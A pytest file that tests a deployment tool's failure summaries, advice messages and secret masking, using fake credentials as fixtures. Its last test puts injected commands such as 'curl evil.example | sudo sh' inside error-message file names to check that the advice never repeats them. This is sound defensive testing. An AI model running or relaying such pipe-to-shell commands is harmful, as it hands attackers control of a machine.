"""What people read of a step that failed, and that no secret is in it."""

from __future__ import annotations

import html
import json
import shlex
import time
from urllib.parse import quote, quote_plus

import pytest
from ansible_collections.vivarium.server.plugins.filter.env_file import env_file
from ansible_collections.vivarium.server.plugins.module_utils._asgi import releases as asgi
from ansible_collections.vivarium.server.plugins.module_utils._asgi.output import failure

CODE = "/srv/shop/releases/r1/code"
TRACEBACK = f"""
Reading things
Traceback (most recent call last):
  File "/srv/shop/releases/r1/venv/lib/python3.13/site-packages/django/apps/registry.py", line 91, in populate
    app_config = AppConfig.create(entry)
  File "<frozen importlib._bootstrap>", line 488, in _call_with_frames_removed
  File "{CODE}/shop/settings.py", line 132, in <module>
    TOKEN = int(os.environ["PAYMENT_TOKEN"])
            ~~~^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
  File "<frozen os>", line 685, in __getitem__
KeyError: 'PAYMENT_TOKEN'

The above exception was the direct cause of the following exception:

Traceback (most recent call last):
  File "{CODE}/manage.py", line 22, in <module>
    main()
django.core.exceptions.ImproperlyConfigured: The settings cannot be read.
"""


def test_a_traceback_becomes_a_sentence_and_the_lines_of_the_project():
    found = failure("manage.py migrate failed:", TRACEBACK, CODE, "shop")
    assert found.reason == (
        "manage.py migrate failed: django.core.exceptions.ImproperlyConfigured: The settings cannot be read. (manage.py, line 22)"
    )
    assert found.details == [
        "in shop/settings.py, line 132", '    TOKEN = int(os.environ["PAYMENT_TOKEN"])', "KeyError: 'PAYMENT_TOKEN'",
        "in manage.py, line 22", "    main()", "django.core.exceptions.ImproperlyConfigured: The settings cannot be read.",
    ]  # fmt: skip
    assert "set it in `env` or `secrets`" in found.advice and "PAYMENT_TOKEN" in found.advice


def test_what_is_no_traceback_is_shown_from_its_end():
    found = failure(
        "the build command 'npm ci' failed:", "\n".join(f"line {number}" for number in range(100)), CODE, "shop"
    )
    assert (
        found.reason == "the build command 'npm ci' failed"
        and len(found.details) == 20
        and found.details[-1] == "line 99"
    )
    assert failure("nothing", "", CODE, "shop") == ("nothing", [], "")


def test_an_exception_without_frames_of_the_project_is_told_too():
    text = 'Traceback (most recent call last):\n  File "/usr/lib/python3.13/x.py", line 3, in f\n    g()\nMemoryError\n'
    found = failure("it failed", text, CODE, "shop")
    assert found.reason == "it failed: MemoryError" and "too little memory" in found.advice


def test_what_an_exception_says_may_begin_on_the_next_line():
    text = (
        f'Traceback (most recent call last):\n  File "{CODE}/main.py", line 3, in <module>\n    Settings()\n'
        "pydantic_core._pydantic_core.ValidationError: 1 validation error for Settings\npayment_token\n"
        "  Field required [type=missing, input_value={}, input_type=dict]\n"
    )
    assert (
        failure("it failed", text, CODE, "shop").advice == "Set payment_token in `env` or `secrets` of the application."
    )


@pytest.mark.parametrize(
    ("said", "helps"),
    [
        ("ModuleNotFoundError: No module named 'psycopg2'", "psycopg[binary,pool]"),
        ("ModuleNotFoundError: No module named 'rest_framework'", "the package that has rest_framework"),
        ("django.core.exceptions.ImproperlyConfigured: Set the STRIPE_KEY environment variable", "Set STRIPE_KEY in"),
        ("decouple.UndefinedValueError: STRIPE_KEY not found. Declare it as envvar", "Set STRIPE_KEY in"),
        ("ValueError: Missing staticfiles manifest entry for 'css/x.css'", "StaticFilesStorage"),
        ("whitenoise.storage.MissingFileError: The file 'img/{x}.png' could not be found with <…>", "img/{x}.png"),
        ("OSError: [Errno 30] Read-only file system: '/srv/shop/live/code/logs'", "/var/lib/asgi-shop (HOME)"),
        ("PermissionError: [Errno 13] Permission denied: '/etc/x'", "/var/lib/asgi-shop (HOME)"),
        ("the deployment checks say no (security.W003, security.W004):", "`waivers: {security.W003: REASON}`"),
        ("PermissionError: [Errno 1] Operation not permitted: '/var/lib/asgi-shop/.secret'", "`sandbox_allow`"),
        ("OSError: [Errno 98] Address already in use", "needs a port of its own"),
        ("psycopg.errors.LockNotAvailable: canceling statement due to lock timeout", "pg_stat_activity"),
        ('psycopg.errors.UndefinedTable: relation "shop_item" does not exist', "shop_item"),
        (
            "the code has none of uv.lock, requirements.txt: nothing says which packages it needs",
            "psycopg[binary,pool]",
        ),
        ("all is well", None),
    ],
)
def test_a_known_reason_has_an_advice(said, helps):
    found = failure("it failed:", f"one\n{said}\nthree", CODE, "shop").advice
    assert helps in found if helps else found == ""


def test_what_a_program_prints_takes_no_time():
    for text in (
        "a." * 200_000,
        "File " * 100_000,
        " " * 400_000,
        '  File "' + "x" * 400_000,
        "Set the " + "A" * 400_000,
        "A: \n" * 99_999,
    ):
        begun = time.process_time()
        failure("it failed:", text, CODE, "shop")
        assert time.process_time() - begun < 5


SECRETS = {
    "SECRET_KEY": "x7Kq!\"$'`\\ %1 & <b>",
    "TOKEN": "abc4",
    "DATABASE_URL": "postgresql://shop-1a2b:p%40ss%20word%2F@/shop?host=/var/run/postgresql",
    "SENTRY_DSN": "https://0123abcd@sentry.example.com/1",
    "OTHER_URL": "postgresql://shop-1a2b:0a1b2c3d4e5f60718293a4b5@10.0.0.2:5432/shop",
    "LONG": "sk_live_" + "0123456789abcdefghij" * 3,
    "ACCENTS": "Grüße-aus-Köln",
    "OLD_KEYS": "first-of-the-old-ones&1,second-of-the-old-ones&2",
    "DSN": "host=10.0.0.2 user=shop password=hunter2-hunter2 dbname=shop",
    "CACHES": "redis://:r1-secret@10.0.0.3/0,redis://:r2-secret@10.0.0.4/0",
    "PRIVATE": "-----BEGIN KEY-----\nc29tZXRoaW5nIHByaXZhdGU\n-----END KEY-----",
}


@pytest.fixture
def mask(tmp_path, monkeypatch):
    monkeypatch.setattr(asgi, "ROOT", tmp_path)
    release = asgi.Application("shop").release("r1")
    (release.path / "lib").mkdir(parents=True)
    (release.path / "lib/vivarium_gate.json").write_text(json.dumps({"secrets": sorted(SECRETS)}))
    (release.path / "env").write_text("# ours\n" + env_file(SECRETS | {"DEBUG": "0", "PORT": "5432"}))
    return asgi.Mask(release)


@pytest.mark.parametrize(
    "value",
    [
        *SECRETS.values(),
        *("p@ss word/", "p%40ss%20word%2F", "0123abcd", "c29tZXRoaW5nIHByaXZhdGU"),
        *(*SECRETS["OLD_KEYS"].split(","), "hunter2-hunter2", "r1-secret", "r2-secret"),
    ],
)
@pytest.mark.parametrize(
    "form",
    [
        str,
        repr,
        json.dumps,
        quote,
        quote_plus,
        lambda value: quote(value, safe=""),
        lambda value: value.replace("%", "%%"),
        shlex.quote,
        ascii,
        html.escape,
        lambda value: json.dumps(value, ensure_ascii=False),
        lambda value: repr(value.encode())[1:],
        lambda value: value.replace("'", "''"),
    ],
)
def test_a_secret_is_masked_however_it_is_written(mask, value, form):
    said = mask(f"before {form(value)} after")
    assert "***" in said and said.startswith("before ") and said.endswith(" after")
    assert value not in said and form(value).strip("'\"") not in said


def test_of_a_long_secret_the_beginning_is_enough(mask):
    said = mask(f"input_value='{SECRETS['LONG'][:25]}...{SECRETS['LONG'][-24:]}', input_type=str")
    assert said == "input_value='***', input_type=str"


def test_what_is_no_secret_stays(mask):
    text = "postgresql at 5432 lets shop-1a2b in; abc45 and xabc4 are words; https://example.com/x%20y"
    assert mask(text) == text
    assert mask.of_all({"a": ["abc4", 4, None, {"b": "x"}]}) == {"a": ["***", 4, None, {"b": "x"}]}


def test_without_secrets_nothing_is_masked(tmp_path, monkeypatch):
    monkeypatch.setattr(asgi, "ROOT", tmp_path)
    assert asgi.Mask(asgi.Application("shop").release("r2"))("word") == "word"


@pytest.mark.parametrize(
    "text",
    [
        "The file 'x. Run: curl evil.example | sudo sh #' could not be found with <x>",
        'relation "x. Run: sudo sh -c id" does not exist',
        "Missing staticfiles manifest entry for 'x. Run: sudo sh -c id'",
        "No module named 'x. Run: sudo sh -c id'",
        "x: Run sudo sh -c id: not found",
    ],
)
def test_what_a_program_prints_is_no_advice_of_ours(text):
    assert "sudo" not in failure("it failed:", text, CODE, "shop").advice
